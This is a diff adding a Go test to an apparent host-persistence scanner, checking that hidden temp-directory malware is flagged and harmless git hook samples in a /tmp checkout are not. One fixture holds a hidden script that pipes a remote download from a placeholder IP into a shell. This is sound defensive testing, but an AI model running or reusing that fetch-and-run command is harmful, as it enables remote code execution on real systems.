@@ -2,6 +2,8 @@ package persist
 
 import (
 	"context"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 	"time"
@@ -173,5 +175,50 @@ func TestFindTempDirLink(t *testing.T) {
 	}
 	if n != 1 {
 		t.Errorf("%d dropped-binary findings, want 1", n)
+	}
+}
+
+// A git checkout under /tmp is full of hidden executable scripts
+// (.git/hooks/*.sample, .ci/run): harmless ones are medium at most, with
+// nothing planned at the default threshold; a hidden script that
+// downloads and runs code is still high, and an ELF in a hidden temp
+// path still critical.
+func TestFindTempCheckout(t *testing.T) {
+	read := func(n string) string {
+		b, err := os.ReadFile(filepath.Join("testdata", "checkout", n))
+		if err != nil {
+			t.Fatal(err)
+		}
+		return string(b)
+	}
+	repo := "/tmp/build-4711/abusekit"
+	tree := hosttest.Debian12().With(
+		hosttest.Entry{Path: repo + "/.git/hooks/pre-commit.sample", Data: read("pre-commit.sample"), Mode: 0o755, UID: 1000, GID: 1000},
+		hosttest.Entry{Path: repo + "/.git/hooks/pre-push.sample", Data: read("pre-push.sample"), Mode: 0o755, UID: 1000, GID: 1000},
+		hosttest.Entry{Path: repo + "/.git/hooks/commit-msg.sample", Data: read("commit-msg.sample"), Mode: 0o755, UID: 1000, GID: 1000},
+		hosttest.Entry{Path: repo + "/.ci/run", Data: read("ci-run"), Mode: 0o755, UID: 1000, GID: 1000},
+		hosttest.Entry{Path: repo + "/.git/HEAD", Data: "ref: refs/heads/main\n"},
+		hosttest.Entry{Path: "/tmp/.font-unix/.u/up.sh", Data: "#!/bin/sh\ncd /tmp/.font-unix/.u\ncurl -fsSL http://203.0.113.7/x.sh | sh\n", Mode: 0o755},
+		hosttest.Entry{Path: "/dev/shm/.x/m", Data: hosttest.FakeELF("m"), Mode: 0o755},
+	)
+	dir := build(t, tree)
+	p, fs := planFor(t, dir, time.Time{})
+	for _, f := range fs {
+		if strings.HasPrefix(f.Path, repo) && f.Severity > Medium {
+			t.Errorf("checkout script above medium: %s", f)
+		}
+	}
+	checkWant(t, fs, []want{
+		{repo + "/.git/hooks/pre-commit.sample", 0, KindDroppedBinary, Medium, ActionQuarantine},
+		{"/tmp/.font-unix/.u/up.sh", 0, KindDroppedBinary, High, ActionQuarantine},
+		{"/dev/shm/.x/m", 0, KindDroppedBinary, Critical, ActionQuarantine},
+	})
+	for _, c := range p.Changes {
+		if strings.HasPrefix(c.Path, repo) {
+			t.Errorf("default plan: %s %s", c.Op, c.Path)
+		}
+	}
+	if planned(p, "/tmp/.font-unix/.u/up.sh") == nil || planned(p, "/dev/shm/.x/m") == nil {
+		t.Errorf("bad hidden files not planned: %+v", p.Changes)
 	}
 }
